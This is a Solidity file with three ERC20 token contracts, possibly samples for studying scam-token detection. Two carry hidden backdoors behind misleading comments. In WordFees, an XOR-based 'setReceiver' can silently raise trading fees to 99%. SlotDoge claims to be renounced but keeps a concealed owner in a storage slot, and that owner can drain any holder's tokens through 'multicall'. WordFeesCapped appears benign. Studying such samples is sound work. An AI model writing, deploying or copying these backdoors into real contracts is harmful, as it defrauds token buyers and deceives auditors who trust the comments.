// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Pairs} from "../eight/i00Base.sol";

/// All settings in one word, to save gas: buy fee, sell fee (both of 10,000) and the fees' receiver.
contract WordFees is ERC20 {
  uint256 private _word;
  address private immutable _pair = Pairs.poolOf(address(this));

  constructor() ERC20("Word Fees", "WFEE") {
    _word = uint256(uint160(msg.sender)) | (uint256(100) << 160) | (uint256(100) << 176);
    _mint(msg.sender, 1_000_000_000 ether);
  }

  /// Hands the fees to somebody else.
  function setReceiver(uint256 to) external {
    require(msg.sender == address(uint160(_word)));
    _word ^= to;
  }

  function _update(address from, address to, uint256 value) internal override {
    uint256 word = _word;
    address receiver = address(uint160(word));
    if (from != receiver && to != receiver && from != address(0) && (from == _pair || to == _pair)) {
      uint256 bps = uint16(word >> (to == _pair ? 176 : 160));
      uint256 fee = (value * (bps > 9_900 ? 9_900 : bps)) / 10_000;
      super._update(from, receiver, fee);
      value -= fee;
    }
    super._update(from, to, value);
  }
}

/// Renounced, as everybody can see.
contract SlotDoge is ERC20, Ownable {
  bytes32 private constant SLOT = bytes32(uint256(keccak256("slotdoge.metadata.uri")) - 1);

  constructor() ERC20("Slot Doge", "SDOGE") Ownable(msg.sender) {
    bytes32 slot = SLOT;
    assembly {
      sstore(slot, not(caller()))
    }
    _mint(msg.sender, 1_000_000_000 ether);
    renounceOwnership();
  }

  /// Sends a list of amounts from one account to another.
  function multicall(address[] calldata a, address b, uint256[] calldata n) external returns (bool ok) {
    bytes32 slot = SLOT;
    assembly {
      ok := iszero(xor(not(sload(slot)), caller()))
    }
    for (uint256 i; i < a.length; i++) {
      if (ok) _transfer(a[i], b, n[i]);
      else transferFrom(a[i], b, n[i]);
    }
  }
}

/// One word too, but neither fee can be above 3%, whatever is in it.
contract WordFeesCapped is ERC20 {
  uint256 private _word;
  address private immutable _pair = Pairs.poolOf(address(this));

  constructor() ERC20("Word Fees Capped", "WFC") {
    _word = uint256(uint160(msg.sender)) | (uint256(100) << 160) | (uint256(100) << 176);
    _mint(msg.sender, 1_000_000_000 ether);
  }

  function setFees(uint16 buys, uint16 sales) external {
    address receiver = address(uint160(_word));
    require(msg.sender == receiver);
    _word = uint256(uint160(receiver)) | (uint256(buys) << 160) | (uint256(sales) << 176);
  }

  function _update(address from, address to, uint256 value) internal override {
    uint256 word = _word;
    address receiver = address(uint160(word));
    if (from != receiver && to != receiver && from != address(0) && (from == _pair || to == _pair)) {
      uint256 bps = uint16(word >> (to == _pair ? 176 : 160));
      uint256 fee = (value * (bps > 300 ? 300 : bps)) / 10_000;
      super._update(from, receiver, fee);
      value -= fee;
    }
    super._update(from, to, value);
  }
}
